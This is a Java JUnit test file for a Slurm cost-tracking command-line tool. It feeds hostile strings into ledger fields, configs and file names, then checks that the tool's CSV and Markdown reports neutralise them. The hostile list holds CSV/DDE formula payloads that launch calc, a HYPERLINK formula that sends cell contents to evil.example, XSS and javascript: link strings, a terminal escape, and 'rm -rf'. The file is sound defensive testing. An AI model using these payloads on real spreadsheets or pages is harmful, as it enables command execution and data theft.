package dev.nexa.slurm.command.records;

import static org.assertj.core.api.Assertions.assertThat;

import dev.nexa.slurm.base.json.JsonObject;
import dev.nexa.slurm.command.Commands;
import dev.nexa.slurm.command.Terminal;
import dev.nexa.slurm.command.Terminal.Screen;
import dev.nexa.slurm.money.ledger.Lines;
import dev.nexa.slurm.records.approvals.Keys;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;
import picocli.CommandLine.Model.CommandSpec;

/**
 * Names that spreadsheets would run and pages would obey, planted in each text that a ledger line
 * and a config hold; each command that prints CSV or Markdown is walked, and what it prints is
 * parsed again.
 */
class HostileCellsTest {
  private static final List<String> HOSTILE =
      List.of(
          "=cmd|' /C calc'!A0",
          "+1+1@SUM(1,1)*cmd|'/C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "  =HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
          "\u200b=1+1",
          "\ufeff@SUM(1)",
          "＝1＋1",
          "－1－1",
          "＋1",
          "＠SUM(1)",
          "−1+A1",
          "a;=1+1",
          "a\t@SUM(1)",
          "a,\"=1\",\n=1+1",
          "\"=1+1\"",
          "<img src=x onerror=alert(1)>",
          "</details><script>x</script>",
          "&lt;b&gt;",
          "a|b|c",
          "\\|x\\",
          "`rm -rf`",
          "[x](javascript:alert(1))",
          "![x](https://evil.example/x.png)",
          "https://evil.example/ and www.evil.example",
          "# head\n\n- list",
          "a\u2028b\u0085c\u001b]52;c;AA\u0007d",
          "*bold* _it_ ~~no~~ $x$",
          "-1.50",
          "+4",
          "-",
          "plain_name-1");

  /** The fields of a ledger line that people and Slurm choose, and how runs are grouped by them. */
  private static final Map<String, String> FIELDS = fields();

  private static final Pattern NUMBER = Pattern.compile("[+-]?\\d+(\\.\\d*)?");

  @TempDir Path folder;

  private Terminal terminal;

  private static Map<String, String> fields() {
    Map<String, String> fields = new TreeMap<>();
    for (String field :
        List.of(
            "stage",
            "status",
            "state",
            "model",
            "dataset",
            "backend",
            "cluster",
            "user",
            "account",
            "partition",
            "gpu_type",
            "price_book")) {
      fields.put(field, field);
    }
    fields.put("expected_method", "method");
    return fields;
  }

  @BeforeEach
  void plant() {
    terminal = new Terminal(folder).withSlurm();
    List<JsonObject> lines = new ArrayList<>();
    for (int i = 0; i < HOSTILE.size(); i++) {
      JsonObject line =
          new JsonObject()
              .with("run_id", "train_20251101_" + (120000 + i))
              .with("currency", "USD")
              .with("cost", "11.09")
              .with("wasted", "1.00")
              .with("credit", "1.00")
              .with("reservation", "23.60")
              .with("expected", "10.00")
              .with("lines", new JsonObject().with("gpu", "11.09"))
              .with("quantities", new JsonObject().with("gpu", "2.0000"))
              .with("gpu_seconds", 7200)
              .with("tasks", 1)
              .with("started", "2025-11-01T12:10:00Z")
              .with("ended", "2025-11-01T13:10:00Z")
              .with(
                  "tags",
                  List.of(HOSTILE.get(i), "team:" + HOSTILE.get(i), "project:" + HOSTILE.get(i)));
      FIELDS.keySet().forEach(field -> line.with(field, "x"));
      String hostile = HOSTILE.get(i);
      FIELDS.keySet().forEach(field -> line.with(field, hostile));
      line.with("status", "completed");
      lines.add(line);
    }
    Lines.write(terminal.workspace, "2025-11", lines.toArray(new JsonObject[0]));
  }

  @Test
  void noCellOfACsvIsAFormulaAndNoTextIsLost() {
    TreeSet<String> by = new TreeSet<>(FIELDS.values());
    by.addAll(List.of("tag", "tag:team"));
    by.remove("status");
    int cells = 0;
    for (String command : List.of("costs", "costs accuracy", "runs analyze")) {
      for (String field : by) {
        List<String> words = new ArrayList<>(List.of(command.split(" ", -1)));
        words.addAll(List.of("--by", field, "--format", "csv"));
        Screen screen = terminal.type(words.toArray(new String[0]));
        assertThat(screen.exit()).as("%s %s", words, screen.err()).isZero();
        List<List<String>> rows = rows(screen.out());
        TreeSet<String> read = new TreeSet<>();
        for (List<String> row : rows) {
          assertThat(row).hasSameSizeAs(rows.get(0));
          for (String cell : row) {
            assertNoFormula(cell);
            cells++;
          }
          read.add(undone(row.get(0)));
        }
        for (String hostile : HOSTILE) {
          assertThat(read).as("%s", words).contains(hostile);
        }
      }
    }
    assertThat(cells).isGreaterThan(10_000);
  }

  @Test
  void focusTooAndItCanBeImportedAgain() {
    Screen screen = terminal.type("costs", "--format", "focus");
    List<List<String>> rows = rows(screen.out());
    for (List<String> row : rows) {
      assertThat(row).hasSameSizeAs(rows.get(0));
      row.forEach(HostileCellsTest::assertNoFormula);
    }
    // Of each run its cost and its credit, which is negative and stays a number.
    assertThat(rows).hasSize(1 + 2 * HOSTILE.size());
    assertThat(screen.out()).contains("\n-1.00,");

    terminal.file("focus.csv", screen.out());
    Screen imported =
        terminal.type(
            "costs",
            "import",
            "focus",
            terminal.workspace + "/focus.csv",
            "--provider",
            "x",
            "--json");
    assertThat(imported.exit()).as(imported.err()).isZero();
    assertThat(imported.json().number("rows")).isEqualTo(2L * HOSTILE.size());
  }

  @Test
  void noCellOfAMarkdownTableIsMoreThanText() {
    for (String command : List.of("costs", "costs accuracy", "runs analyze")) {
      for (String field : FIELDS.values()) {
        List<String> words = new ArrayList<>(List.of(command.split(" ", -1)));
        words.addAll(List.of("--by", field, "--format", "markdown"));
        assertPlainMarkdown(terminal.type(words.toArray(new String[0])).out());
      }
    }
  }

  @Test
  void aPullRequestsCommentHoldsNoMarkupOfAConfig() {
    terminal.with("NEXA_CLUSTER", "mine");
    terminal.file(
        "configs/clusters/mine.yaml",
        "storage: {scratch: /scratch, durable: /durable, shared: /shared}\ndefault_partition: cpu\n"
            + "partitions:\n  cpu: {gpus_per_node: 0, cpus_per_node: 64, memory_per_node: 512G}\n");
    terminal.program(
        "sbatch", "echo 'sbatch: error: <img src=x onerror=alert(1)>|[x](y) `z`' >&2; exit 1");
    for (String hostile : HOSTILE) {
      String text = hostile.replaceAll("[\\p{Cc}\\u2028\\ufeff]", "");
      String yaml = text.replace("'", "''").replace("${", "");
      terminal.file(
          "run.yaml",
          "stage: data\nbackend: shell\nrun: echo\nresources: {time: 10m, memory: 1G}\n");
      terminal.file(
          "other <img> |`[x](y).yaml",
          "stage: data\nbackend: shell\nrun: 'echo "
              + yaml
              + "'\ntags: ['t"
              + yaml.replaceAll("[^A-Za-z0-9:._/-]", "")
              + "']\nenv: {X: '"
              + yaml
              + "'}\nresources: {time: 20m, memory: 1G}\n");
      for (List<String> words :
          List.of(
              List.of("estimate", "--diff", "run.yaml", "other <img> |`[x](y).yaml", "--markdown"),
              List.of("estimate", "other <img> |`[x](y).yaml", "--compare", "--markdown"))) {
        Screen screen = terminal.type(words.toArray(new String[0]));
        assertThat(screen.exit()).as("%s %s", words, screen.err()).isZero();
        assertPlainMarkdown(screen.out());
      }
    }
  }

  @Test
  void noBudgetsNameIsAFormulaOrMarkup() {
    int checked = 0;
    for (String hostile : HOSTILE) {
      String name = hostile.replaceAll("[\\p{Cc}\\u2028\\ufeff]", "").strip();
      terminal.file(
          "configs/policy.yaml",
          "approval_over: {amount: 100, currency: USD}\nbudgets:\n  - {scope: project, name: '"
              + name.replace("'", "''")
              + "', amount: 20, currency: USD, period: month}\n");
      Screen csv = terminal.type("costs", "budget", "--format", "csv");
      if (csv.exit() != 0) {
        // The policy takes no such name.
        continue;
      }
      rows(csv.out()).forEach(row -> row.forEach(HostileCellsTest::assertNoFormula));
      assertPlainMarkdown(terminal.type("costs", "budget", "--format", "markdown").out());
      checked++;
    }
    assertThat(checked).isPositive();
  }

  @Test
  void noRowOfAStatementIsAFormulaOrMarkup() throws IOException {
    Path key = Keys.make(folder, "finance");
    Files.writeString(
        folder.resolve("allowed_signers"),
        "fay@site namespaces=\"nexa-slurm-statement\" " + Keys.line(key) + "\n");
    terminal.program("ssh-keygen", "exec /usr/bin/ssh-keygen \"$@\"");
    terminal.file(
        "configs/policy.yaml",
        "approval_over: {amount: 100, currency: USD}\napprovals:\n  directory: approvals\n"
            + "  allowed_signers: "
            + folder.resolve("allowed_signers")
            + "\n");
    for (int i = 0; i < HOSTILE.size(); i++) {
      String id = "train_20251101_" + (120000 + i);
      terminal.file(
          "runs/manifests/cost_" + id + ".json",
          "{\"run_id\": \"" + id + "\", \"total\": 11.09, \"version\": 1, \"currency\": \"USD\"}");
    }
    Screen closed = terminal.type("costs", "close", "2025-11", "--yes", "--key", "" + key);
    assertThat(closed.exit()).as(closed.err()).isZero();

    for (String part : List.of("project", "user", "account", "run")) {
      List<List<String>> rows =
          rows(terminal.type("costs", "statement", "--by", part, "--format", "csv").out());
      rows.forEach(row -> row.forEach(HostileCellsTest::assertNoFormula));
      assertThat(rows).as(part).hasSizeGreaterThan(HOSTILE.size() / 2);
      assertPlainMarkdown(
          terminal.type("costs", "statement", "--by", part, "--format", "markdown").out());
    }
    rows(terminal.type("costs", "statement", "--format", "csv").out())
        .forEach(row -> row.forEach(HostileCellsTest::assertNoFormula));
    String whole = terminal.type("costs", "statement", "--format", "markdown").out();
    assertPlainMarkdown(whole.replaceAll("(?m)^#+ ", ""));
  }

  @Test
  void noPipelinesCommentHoldsMarkupOfItsFiles() {
    terminal.file(
        "other <img> |`[x](y).yaml",
        "stage: data\nbackend: shell\nrun: echo\nresources: {time: 10m, memory: 1G}\n");
    terminal.file(
        "pipe <b> |`[x](y).yaml", "stages:\n  first: {config: 'other <img> |`[x](y).yaml'}\n");

    Screen screen = terminal.type("pipeline", "estimate", "pipe <b> |`[x](y).yaml", "--markdown");

    assertThat(screen.exit()).as(screen.err()).isZero();
    assertPlainMarkdown(screen.out().replaceAll("(?m)^#+ ", ""));
  }

  /** A new command that prints such tables must be walked here too. */
  @Test
  void thereIsNoOtherCommandThatPrintsThem() {
    TreeSet<String> found = new TreeSet<>();
    walk(Commands.commandLine(new String[0], Map.of(), Path.of(""), null), found);

    // DatasetsCommandTest writes hostile texts into the registry.
    found.removeAll(List.of("datasets list", "lineage"));
    // The --format of release sign names a signature. Names of releases are letters, digits, '.',
    // '_' and '-'.
    found.removeAll(List.of("release sign", "release list"));
    assertThat(found)
        .containsExactly(
            "costs",
            "costs accuracy",
            "costs budget",
            "costs statement",
            "estimate",
            "pipeline estimate",
            "runs analyze");
  }

  private static void walk(CommandLine line, Set<String> found) {
    CommandSpec spec = line.getCommandSpec();
    if (spec.findOption("--format") != null || spec.findOption("--markdown") != null) {
      found.add(spec.qualifiedName().replace("nexa-slurm ", ""));
    }
    line.getSubcommands().values().forEach(below -> walk(below, found));
  }

  private static void assertNoFormula(String cell) {
    int i = 0;
    while (i < cell.length()
        && (cell.charAt(i) <= ' '
            || cell.charAt(i) == '\u0085'
            || Character.getType(cell.charAt(i)) == Character.FORMAT)) {
      i++;
    }
    boolean formula = i < cell.length() && "=+-@＝＋－＠−".indexOf(cell.charAt(i)) >= 0;
    boolean blank = !cell.isEmpty() && "\t\r\n".indexOf(cell.charAt(0)) >= 0;
    assertThat((formula || blank) && !NUMBER.matcher(cell).matches() && !cell.equals("-"))
        .as("[%s] is a formula", cell)
        .isFalse();
    assertThat(Pattern.compile("[;\t\n\r]\\s*[=+@-]").matcher(cell).find())
        .as("[%s] holds a formula behind a separator of some locale", cell)
        .isFalse();
  }

  /** The text without the apostrophes before what would be a formula. */
  private static String undone(String cell) {
    return cell.replaceAll(
        "(^|(?<=[;\\t\\n\\r])|(?<=^[ \\u200b\\ufeff]{1,2}))'(?=[=+@＝＋－＠−\\t\\r\\n-])", "");
  }

  /** What is no HTML, link, code or new cell. */
  private static void assertPlainMarkdown(String text) {
    String ours = text.replaceAll("(?m)^</?details>(<summary>\\d+ changed keys?</summary>)?$", "");
    assertThat(ours).doesNotContain("<", ">", "://").doesNotContainPattern("(?i)www\\.");
    assertThat(ours).doesNotContainPattern("[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f]");
    String plain = ours.replaceAll("\\\\[\\\\`*~$\\[\\]|_]", "");
    assertThat(plain).doesNotContain("`", "[", "]", "*", "~", "\\");
    List<String> table = new ArrayList<>();
    for (String line : plain.split("\n", -1)) {
      if (line.startsWith("|")) {
        table.add(line);
        assertThat(line.chars().filter(c -> c == '|').count())
            .as(line)
            .isEqualTo(table.get(0).chars().filter(c -> c == '|').count());
      } else {
        table.clear();
      }
    }
  }

  /** CSV as RFC 4180 has it. */
  private static List<List<String>> rows(String text) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted) {
        if (c != '"') {
          cell.append(c);
        } else if (i + 1 < text.length() && text.charAt(i + 1) == '"') {
          cell.append(c);
          i++;
        } else {
          quoted = false;
        }
      } else if (c == '"') {
        assertThat(cell).isEmpty();
        quoted = true;
      } else if (c == ',' || c == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        if (c == '\n') {
          rows.add(row);
          row = new ArrayList<>();
        }
      } else {
        cell.append(c);
      }
    }
    assertThat(quoted).isFalse();
    assertThat(row).isEmpty();
    return rows;
  }
}
